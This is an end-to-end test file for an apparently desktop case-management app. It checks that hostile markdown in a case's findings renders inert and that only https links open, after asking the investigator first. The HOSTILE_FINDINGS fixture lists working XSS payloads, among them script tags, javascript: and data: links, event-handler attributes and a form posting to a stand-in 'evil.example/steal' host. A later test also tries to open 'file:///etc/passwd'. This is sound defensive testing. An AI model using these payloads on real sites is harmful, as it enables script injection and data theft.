// Findings are untrusted markdown. Put hostile findings on a case through the page's own API, open the
// case, and show that nothing ran, nothing was framed or fetched, no link navigates, and only the
// https: link reached main — which asked the investigator before opening it. (The fixture also fails
// the test on any console error, so a CSP violation — something that tried to run — fails it too.)
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { OPEN_LINK_QUESTION } from '../../src-main/core/handlers/index.js';
import { createTestPlatform } from '../harness/index.js';
import type { E2E } from './fixture.js';
import { startE2E } from './fixture.js';
import { eventually, openDemoWorkspace, pageGlobal, waitForCase } from './ui.js';

const SAFE_URL = 'https://example.com/acceptable-use';

const HOSTILE_FINDINGS = [
  '# Hostile findings',
  '',
  '<script>window.__pwned=1</script>',
  '',
  '[javascript link](javascript:window.__pwned=2)',
  '',
  '<img src=x onerror="window.__pwned=3">',
  '',
  '<a href="#" onclick="window.__pwned=4">onclick link</a>',
  '',
  '<iframe src="https://evil.example"></iframe>',
  '',
  '<svg onload="window.__pwned=5"><circle r="4"></circle></svg>',
  '',
  '<a href="data:text/html,<script>parent.__pwned=6</script>">data link</a>',
  '',
  '<form action="https://evil.example/steal"><button formaction="javascript:window.__pwned=7">Send</button></form>',
  '',
  '<style>body { display: none }</style>',
  '',
  '<img src="https://evil.example/pixel.png" alt="tracking pixel">',
  '',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
  '',
  '<a data-external-url="javascript:window.__pwned=8" role="link" tabindex="0">forged link</a>',
  '',
  '[plain http link](http://example.com/insecure)',
  '',
  '[mixed-case link](  JaVaScRiPt:window.__pwned=10)',
  '',
  '[reference link][evil]',
  '',
  '[data url link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMTwvc2NyaXB0Pg==)',
  '',
  '![tracking image](https://evil.example/pixel.png)',
  '',
  '[evil]: javascript:window.__pwned=12',
  '',
  `[safe link](${SAFE_URL})`,
].join('\n');

let e2e: E2E;
let page: Page;
let caseNumber: number;
let startUrl: string;
let startHistory: number;

function historyLength(): Promise<number> {
  return page.evaluate(() => (globalThis as unknown as { history: { length: number } }).history.length);
}

/** Every attribute of every element under the findings container, as `tag attr=value`. */
function renderedAttributes(): Promise<string[]> {
  return page.getByTestId('findings').evaluate((root) => {
    type El = { tagName: string; attributes: ArrayLike<{ name: string; value: string }> };
    const all = (root as unknown as { querySelectorAll(s: string): ArrayLike<El> }).querySelectorAll('*');
    return Array.from(all).flatMap((el) =>
      Array.from(el.attributes).map((a) => `${el.tagName.toLowerCase()} ${a.name}=${a.value}`),
    );
  });
}

beforeAll(async () => {
  e2e = await startE2E({ platform: createTestPlatform({ confirmAnswer: true }) });
  page = e2e.page;
  await page.goto(e2e.harness.url);
  startUrl = page.url();
  startHistory = await historyLength();
  await openDemoWorkspace(page);
});

afterEach(() => {
  expect(e2e.problems).toEqual([]);
});

afterAll(async () => {
  await e2e?.close();
});

describe('hostile markdown in findings', () => {
  it('is stored through the API and rendered without anything running', async () => {
    const open = await e2e.harness.session.client().getPage({ status: ['OPEN'], pgSize: 1 });
    const target = open.cases[0];
    if (!target) throw new Error('the demo has no open case');
    caseNumber = target.number;
    const stored = await page.evaluate(
      ([number, findings]) =>
        (
          globalThis as unknown as {
            caseDesk: { cases: { update(input: object): Promise<{ ok: boolean }> } };
          }
        ).caseDesk.cases.update({ number, changes: { findings } }),
      [caseNumber, HOSTILE_FINDINGS] as const,
    );
    expect(stored.ok).toBe(true);

    // Open it the way an investigator would: search its name, click its row.
    await page.getByLabel('Search case names').fill(target.name);
    await page.locator(`.cases [data-case="${caseNumber}"]`).click();
    await waitForCase(page, caseNumber);
    const findings = page.getByTestId('findings');
    await findings.getByText('safe link').waitFor();
    await e2e.screenshot('case-detail-hostile-findings');

    expect(await pageGlobal(page, '__pwned')).toBeUndefined();
    for (const selector of [
      'script',
      'iframe',
      'svg',
      'style',
      'form',
      'button',
      'object',
      'embed',
      'img[src]',
    ]) {
      expect(await findings.locator(selector).count(), selector).toBe(0);
    }
    // The raw HTML is shown as what it is — text — never as markup.
    const text = await findings.textContent();
    expect(text).toContain('<script>window.__pwned=1</script>');
    expect(text).toContain('<iframe src="https://evil.example"></iframe>');
    // No element can navigate, load or run anything: no href, src, action or event handler survived,
    // and the only link target kept is the https one.
    const attributes = await renderedAttributes();
    expect(
      attributes.filter((a) => /^\S+ (on\w+|href|src|action|formaction|style|data|srcdoc)=/u.test(a)),
    ).toEqual([]);
    expect(attributes.filter((a) => /javascript:|data:|evil\.example/iu.test(a))).toEqual([]);
    expect(attributes.filter((a) => a.includes('data-external-url='))).toEqual([
      `a data-external-url=${SAFE_URL}`,
    ]);
    expect(await findings.getByText('safe link').getAttribute('data-external-url')).toBe(SAFE_URL);
    expect(await findings.getByText('javascript link').getAttribute('data-external-url')).toBeNull();
    // The page never asked for anything but its own files.
    const origin = new URL(e2e.harness.url).origin;
    expect(e2e.requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:'))).toEqual(
      [],
    );
  });

  it('keeps every link inert: the page stays put and only the https link asks main', async () => {
    const findings = page.getByTestId('findings');
    const links = findings.locator('a');
    const count = await links.count();
    expect(count).toBe(6); // javascript, plain http, mixed case, reference, data url, safe
    e2e.harness.platform.reset();
    for (let i = 0; i < count; i++) {
      const link = links.nth(i);
      if ((await link.textContent()) === 'safe link') continue;
      await link.click();
      await link.click({ button: 'middle' });
    }
    // Give any (wrong) asynchronous request time to arrive before checking that none did.
    await page.waitForTimeout(300);
    expect(e2e.harness.platform.confirms).toEqual([]);
    expect(page.url()).toBe(startUrl);
    expect(await pageGlobal(page, '__pwned')).toBeUndefined();

    await findings.getByText('safe link').click();
    await eventually(() => expect(e2e.harness.platform.openedExternal).toEqual([SAFE_URL]));
    expect(e2e.harness.platform.confirms).toEqual([{ message: OPEN_LINK_QUESTION, detail: SAFE_URL }]);
    expect(page.url()).toBe(startUrl);
    expect(await historyLength()).toBe(startHistory);

    // The keyboard works too: Enter on the focused link asks main again.
    await findings.getByText('safe link').focus();
    await page.keyboard.press('Enter');
    await eventually(() => expect(e2e.harness.platform.openedExternal).toEqual([SAFE_URL, SAFE_URL]));
    expect(await pageGlobal(page, '__pwned')).toBeUndefined();
    expect(page.url()).toBe(startUrl);
  });

  it('is refused by main for anything but https, even when the page asks directly', async () => {
    e2e.harness.platform.reset();
    const answers = await page.evaluate(async () => {
      const api = (
        globalThis as unknown as {
          caseDesk: { shell: { openExternal(input: { url: string }): Promise<{ ok: boolean }> } };
        }
      ).caseDesk;
      const urls = [
        'javascript:window.__pwned=9',
        'http://example.com/',
        'data:text/html,x',
        'file:///etc/passwd',
      ];
      return Promise.all(urls.map((url) => api.shell.openExternal({ url }).then((r) => r.ok)));
    });
    expect(answers).toEqual([false, false, false, false]);
    expect(e2e.harness.platform.confirms).toEqual([]);
    expect(e2e.harness.platform.openedExternal).toEqual([]);
  });
});
